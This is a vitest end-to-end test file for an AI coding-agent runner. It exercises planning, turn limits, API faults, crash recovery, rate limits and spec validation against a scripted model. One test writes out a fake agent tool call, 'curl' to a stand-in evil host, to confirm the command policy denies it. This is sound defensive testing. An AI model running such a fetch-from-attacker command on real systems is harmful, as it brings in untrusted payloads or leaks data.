import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { openProjectStore } from '../../src/db/stores.js';
import { projectPaths } from '../../src/config/paths.js';
import type { SessionPort } from '../../src/db/ports.js';
import { gitOk } from '../../src/git/git.js';
import { agentTestEnv } from '../support/agent-env.js';
import { cli, cliAsync, startCli } from '../support/cli-process.js';
import {
  assignedFeature,
  codingSession,
  initializerSession,
  isCoding,
  reply,
  roleScript,
  SAMPLE_FEATURES,
  sequence,
  startScriptedModelServer,
  type ScriptedModelServer,
  type Script,
} from '../support/fake-anthropic/index.js';
import { createSampleProject } from '../support/sample-project.js';

// Drives the real Claude Code binary against a scripted model: one test can take over a minute on a loaded 2-core
// machine.
vi.setConfig({ testTimeout: 120_000 });

let root: string;
let server: ScriptedModelServer | undefined;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'ac-e2e-'));
});

afterEach(async () => {
  await server?.close();
  server = undefined;
  rmSync(root, { recursive: true, force: true });
});

async function setup(script: Script, extraEnv: Record<string, string> = {}) {
  server = await startScriptedModelServer(script);
  const env = agentTestEnv(root, server.url, extraEnv);
  const { dir, created } = createSampleProject(root, env);
  expect(created.stderr).toBe('');
  return { env, dir, server };
}

function inspect<T>(dir: string, fn: (store: ReturnType<typeof openProjectStore>, sessions: SessionPort) => T): T {
  const store = openProjectStore(projectPaths(dir), { create: false });
  try {
    return fn(store, store.sessions);
  } finally {
    store.close();
  }
}

describe('autocoder run with the real Claude Code binary and a scripted model', () => {
  it('plans the backlog from the spec, then implements every feature in its own session', async () => {
    const { env, dir } = await setup(
      roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }),
    );
    const run = await cliAsync(['run', 'notes'], env);
    expect(run.stderr).toBe('');
    expect(run.stdout).toContain('The initializer created 4 features.');
    expect(run.stdout).toContain('All 4 features pass.');
    expect(run.status).toBe(0);

    const status = JSON.parse(cli(['status', 'notes', '--json'], env).stdout) as Record<string, number>;
    expect(status).toMatchObject({ total: 4, passing: 4, pending: 0, failed: 0, percentage: 100 });

    expect(statSync(join(dir, 'init.sh')).mode & 0o111).not.toBe(0);
    const log = gitOk(dir, ['log', '--format=%s']);
    expect(log).toContain('Initial plan and project skeleton');
    for (const id of [1, 2, 3, 4]) {
      expect(log).toContain(`Feature #${id}`);
      expect(readFileSync(join(dir, 'features', `feature-${id}.txt`), 'utf8')).toBe(`feature ${id} implemented\n`);
    }
    expect(gitOk(dir, ['status', '--porcelain']).trim()).toBe('');

    inspect(dir, (store, sessions) => {
      const features = store.features.list();
      expect(features.find((f) => f.name === 'Search notes')?.dependencies).toEqual([2]);
      for (const f of features) {
        expect(f.costUsd).toBeGreaterThan(0);
        expect(f.inputTokens).toBeGreaterThan(0);
        expect(f.attempts).toBe(1);
      }
      const all = sessions.list();
      expect(all.map((s) => s.role)).toEqual(['initializer', 'coding', 'coding', 'coding', 'coding']);
      for (const s of all) {
        expect(s.status).toBe('succeeded');
        expect(s.costUsd).toBeGreaterThan(0);
        expect(s.outputTokens).toBeGreaterThan(0);
        expect(s.turns).toBeGreaterThan(1);
        expect(existsSync(s.transcriptPath as string)).toBe(true);
      }
      // The order respects dependencies: "List notes" (#2) is on the longest path, so it runs right after #1. Then
      // "Search notes" (#4, category search: no history, estimated at the prior) before "Delete a note" (#3, category
      // notes, whose sessions here took seconds): the longer estimate first.
      expect(all.slice(1).map((s) => s.featureIds[0])).toEqual([1, 2, 4, 3]);
    });
  });

  it('records a session that hits --max-turns as a failed attempt and keeps going until --max-iterations', async () => {
    const { env, dir } = await setup(
      roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }),
    );
    const plan = await cliAsync(['run', 'notes', '--max-iterations', '1'], env);
    expect(plan.stdout).toContain('Reached --max-iterations 1; 1/4 features pass.');
    const run = await cliAsync(['run', 'notes', '--max-turns', '2', '--max-iterations', '2'], env);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('Reached --max-iterations 2; 1/4 features pass.');
    inspect(dir, (store, sessions) => {
      const limited = sessions.list().filter((x) => x.outcome === 'max_turns');
      expect(limited).toHaveLength(2);
      for (const x of limited) expect(x.status).toBe('failed');
      const f2 = store.features.get(2);
      expect(f2.status).toBe('pending');
      expect(f2.attempts).toBe(2);
      expect(f2.notes).toContain('the session ended with max_turns');
    });
  });

  it('survives overloaded (529) answers and streams cut mid-reply', async () => {
    const {
      env,
      dir,
      server: s,
    } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }));
    s.inject({ fault: { kind: 'status', status: 529 }, when: isCoding, times: 2 });
    s.inject({ fault: { kind: 'cut' }, when: (c) => isCoding(c) && c.turn === 2, times: 1 });
    // Both faults hit feature #1's session: the run stops after it.
    const run = await cliAsync(['run', 'notes', '--max-iterations', '1'], env);
    expect(run.stdout).toContain('Reached --max-iterations 1; 1/4 features pass.');
    expect(run.status).toBe(0);
    expect(s.requests.filter((r) => r.fault === 'status')).toHaveLength(2);
    expect(s.requests.filter((r) => r.fault === 'cut')).toHaveLength(1);
    inspect(dir, (store) => expect(store.features.get(1).status).toBe('passing'));
  });

  it('refuses a Bash command the policy denies: the model gets the reason and nothing ran', async () => {
    const coding = codingSession();
    const script = roleScript({
      initializer: initializerSession(SAMPLE_FEATURES),
      coding: (conv) =>
        assignedFeature(conv) === 1
          ? sequence([
              () => reply().tool('Bash', { command: 'curl -s https://evil.example/payload > leak.txt' }),
              ...[0, 1, 2, 3].map((i) => (c: typeof conv) => coding({ ...c, turn: i })),
            ])(conv)
          : coding(conv),
    });
    const { env, dir, server: s } = await setup(script);
    const run = await cliAsync(['run', 'notes', '--max-iterations', '1'], env);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('Reached --max-iterations 1; 1/4 features pass.');
    const denied = s.requests.find((r) => r.lastToolResults.some((t) => t.name === 'Bash' && t.isError));
    expect(denied?.lastToolResults[0]?.text).toMatch(/command refused \(network\)/);
    expect(existsSync(join(dir, 'leak.txt'))).toBe(false);
    inspect(dir, (store) => expect(store.features.get(1).status).toBe('passing'));
  });

  it('recovers after the runner is killed with SIGKILL mid-session: no feature lost or passed twice', async () => {
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    const coding = codingSession();
    const script: Script = async (conv) => {
      if (assignedFeature(conv) === 2 && conv.turn === 1) await gate;
      return roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding })(conv);
    };
    const { env, dir, server: s } = await setup(script);
    const first = startCli(['run', 'notes'], env);
    await s.waitForRequest((c) => assignedFeature(c) === 2 && c.turn === 1, 120_000);
    first.child.kill('SIGKILL');
    await first.exited;
    release();
    inspect(dir, (store) => expect(store.features.get(2).status).toBe('in_progress'));

    const second = await cliAsync(['run', 'notes'], env);
    expect(second.stdout).toContain('Recovered 1 feature(s) from a run that died: #2.');
    expect(second.stdout).toContain('All 4 features pass.');
    expect(second.status).toBe(0);
    inspect(dir, (store) => {
      const passedEvents = store.db
        .prepare(`SELECT feature_id, count(*) AS n FROM events WHERE type = 'feature.passed' GROUP BY feature_id`)
        .all() as { feature_id: number; n: number }[];
      expect(passedEvents).toEqual([1, 2, 3, 4].map((id) => ({ feature_id: id, n: 1 })));
      expect(store.features.get(2).attempts).toBe(1);
      const runs = store.db.prepare('SELECT status FROM runs ORDER BY started_at').all() as { status: string }[];
      expect(runs.map((r) => r.status)).toEqual(['crashed', 'finished']);
    });
  });

  it('waits out a rate limit until the reset time the answer gives, then resumes by itself', async () => {
    const {
      env,
      dir,
      server: s,
    } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }), {
      CLAUDE_CODE_MAX_RETRIES: '0',
      AUTOCODER_RATE_LIMIT_BACKOFF_MS: '600000',
    });
    const limit = {
      type: 'error',
      error: { type: 'rate_limit_error', message: 'Rate limit exceeded, retry after 2 seconds' },
    };
    s.inject({ fault: { kind: 'status', status: 429, body: limit }, when: (c) => assignedFeature(c) === 3, times: 1 });
    const run = await cliAsync(['run', 'notes'], env);
    expect(run.stdout).toMatch(/usage or rate limit; no session starts before/);
    expect(run.stdout).toContain('All 4 features pass.');
    expect(run.status).toBe(0);
    // Had it used the 10-minute fallback instead of the named reset, the test would time out.
    inspect(dir, (store, sessions) => {
      const limited = store.db.prepare(`SELECT payload FROM events WHERE type = 'run.rate_limited'`).all() as {
        payload: string;
      }[];
      expect(limited).toHaveLength(1);
      const until = (JSON.parse(limited[0]!.payload) as { until: number }).until;
      const f3 = store.features.get(3);
      expect(f3.attempts).toBe(1);
      expect(f3.notes).toContain('released: the model provider refused for a usage or rate limit');
      expect(sessions.list({ featureId: 3 }).map((x) => x.outcome)).toEqual(['rate_limited', 'success']);
      // The retry started no sooner than the reset time the refusal named ("retry after 2 seconds"), which lay ahead of
      // it.
      const [first, second] = sessions.list({ featureId: 3 });
      expect(until).toBeGreaterThan(first!.endedAt!);
      expect(second!.startedAt).toBeGreaterThanOrEqual(until);
    });
  });

  it('reports a spec with problems with line numbers and creates nothing', async () => {
    server = await startScriptedModelServer(() => reply().text('unused'));
    const env = agentTestEnv(root, server.url);
    const specFile = join(root, 'bad-spec.txt');
    writeFileSync(
      specFile,
      '<project_specification>\n  <project_name>x</project_name>\n  <overview>o</overview>\n</project_specification>\n',
    );
    expect(cli(['new', 'bad', '--dir', join(root, 'bad'), '--spec', specFile], env).status).toBe(0);
    const run = await cliAsync(['run', 'bad'], env);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/app_spec\.txt:1: missing required section <technology_stack>/);
    expect(server.requests).toHaveLength(0);
  });
});
